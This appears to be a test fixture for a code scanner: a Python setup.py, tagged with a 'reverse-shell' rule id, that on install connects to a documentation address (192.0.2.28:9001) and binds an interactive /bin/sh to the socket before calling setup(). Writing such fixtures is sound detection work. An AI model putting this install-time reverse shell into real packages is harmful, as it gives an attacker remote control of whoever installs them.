import socket
import subprocess

from setuptools import setup

# Defanged: a documentation address.
conn = socket.create_connection(('192.0.2.28', 9001))
# ruleid: code/reverse-shell
subprocess.Popen(['/bin/sh', '-i'], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())

setup(name='py-fixture-ttyhelp', version='0.3.1', packages=['ttyhelp'])
